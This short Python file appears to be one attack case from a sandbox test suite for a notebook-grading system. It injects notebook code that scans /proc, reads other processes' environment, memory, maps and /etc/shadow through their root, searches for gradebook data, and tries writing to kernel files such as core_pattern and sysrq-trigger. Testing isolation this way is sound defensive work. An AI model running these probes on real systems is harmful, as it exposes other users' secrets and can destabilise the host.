"""Looks through /proc for other processes, their memory and their environment."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os
found = [p for p in os.listdir('/proc') if p.isdigit()] if os.path.isdir('/proc') else []
if len(found) > 8: print('SUC' + 'CEEDED')
for pid in found:
    for name in ('environ', 'cmdline', 'mem', 'maps', 'root/etc/shadow'):
        try: data = open(f'/proc/{pid}/{name}', 'rb').read(10000); print(pid, name, b'gradebook' in data)
        except OSError: pass
for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/1/oom_score_adj'):
    try: open(path, 'w').write('1'); print('SUC' + 'CEEDED')
    except OSError: pass
""",
    )
